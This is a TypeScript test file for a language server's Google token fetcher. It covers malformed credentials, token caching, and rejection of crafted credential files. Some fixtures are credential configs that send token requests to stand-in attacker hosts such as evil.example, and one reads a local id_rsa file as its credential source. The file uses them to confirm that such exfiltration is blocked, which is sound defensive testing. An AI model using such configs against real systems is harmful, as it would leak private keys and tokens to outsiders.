import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { googleToken } from '../../../server/src/lsp/credentials/google';
import { temporaryFolder } from '../../support/connection';

const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const account = JSON.stringify({
  type: 'service_account',
  project_id: 'demo-project',
  private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }),
  client_email: 'svc@demo-project.iam.gserviceaccount.com',
  token_uri: 'https://evil.example.com/token',
});

describe('tokens of Google', () => {
  it('are refused for credentials that are no JSON, without a word of them', async () => {
    const credentials = { json: '{"a": MARKED-5e9b1d77' };
    await assert.rejects(
      googleToken({ kind: 'google', credentials }),
      ({ message }: Error) => message.includes('no JSON') && !message.includes('MARK'),
    );
  });

  it('are had for a service account from Google alone, and kept', async () => {
    const asked: string[] = [];
    const google: typeof fetch = (url, init) => {
      asked.push(String(url));
      assert.match(
        String(init?.body),
        /^grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer&assertion=ey/,
      );
      const answer = { access_token: 'ya29.x', expires_in: 3599, token_type: 'Bearer' };
      return Promise.resolve(Response.json(answer));
    };
    const how = { kind: 'google', credentials: { json: account } } as const;
    assert.deepEqual(await googleToken(how, google), { token: 'ya29.x', project: 'demo-project' });
    assert.deepEqual(await googleToken(how, google), { token: 'ya29.x', project: 'demo-project' });
    assert.deepEqual(asked, ['https://oauth2.googleapis.com/token']);
  });

  it('are asked for in the way of the run that needs one', async () => {
    const ways: string[] = [];
    const way = (name: string, expiry: number) => () => {
      ways.push(name);
      return Promise.resolve(Response.json({ access_token: name, expires_in: expiry, token_type: 'Bearer' }));
    };
    const other = JSON.stringify({ ...JSON.parse(account), client_email: 'other@p.iam.gserviceaccount.com' } as object);
    const how = { kind: 'google', credentials: { json: other } } as const;
    assert.equal((await googleToken(how, way('a', 1))).token, 'a');
    assert.equal((await googleToken(how, way('b', 3599))).token, 'b');
    assert.deepEqual(ways, ['a', 'b']);
  });

  it('are had also where so many others were asked for meanwhile that theirs are not remembered', async () => {
    const names = Array.from({ length: 30 }, (_, index) => `many${index}@p.iam.gserviceaccount.com`);
    const tokens = names.map((client_email) => {
      const json = JSON.stringify({ ...JSON.parse(account), client_email } as object);
      const answer = { access_token: client_email, expires_in: 3599, token_type: 'Bearer' };
      return googleToken({ kind: 'google', credentials: { json } }, () => Promise.resolve(Response.json(answer)));
    });
    assert.deepEqual(
      (await Promise.all(tokens)).map(({ token }) => token),
      names,
    );
  });

  it('are not had with credentials of a project that send what is on this machine to others', async () => {
    const folder = temporaryFolder({ id_rsa: 'PRIVATE', 'evil.json': '' });
    const asked: string[] = [];
    const web: typeof fetch = (url) => {
      asked.push(String(url));
      return Promise.resolve(Response.json({ access_token: 'x', expires_in: 3599 }));
    };
    const evil = JSON.stringify({
      type: 'external_account',
      audience: '//iam.googleapis.com/x',
      subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
      token_url: 'https://evil.example/token',
      credential_source: { file: `${folder.path}/id_rsa` },
    });
    folder.write('evil.json', evil);
    const file = `${folder.path}/evil.json`;
    try {
      await assert.rejects(googleToken({ kind: 'google', credentials: { json: evil } }, web), /`evil\.example`/);
      await assert.rejects(googleToken({ kind: 'google', credentials: { file } }, web), /`evil\.example`/);
    } finally {
      folder.remove();
    }
    assert.deepEqual(asked, []);
  });

  it('are not had with credentials that are none', async () => {
    await assert.rejects(googleToken({ kind: 'google', credentials: { json: '[' } }));
    await assert.rejects(googleToken({ kind: 'google', credentials: { json: 'null' } }), /no JSON object/);
    await assert.rejects(googleToken({ kind: 'google', credentials: { file: '/no/such.json' } }), /no.such\.json/);
    const folder = temporaryFolder({ id_rsa: '-----BEGIN KEY-----\nsecret' });
    const file = `${folder.path}/id_rsa`;
    await assert.rejects(googleToken({ kind: 'google', credentials: { file } }), {
      message: `the credentials in ${file} are no JSON.`,
    });
    folder.remove();
  });
});
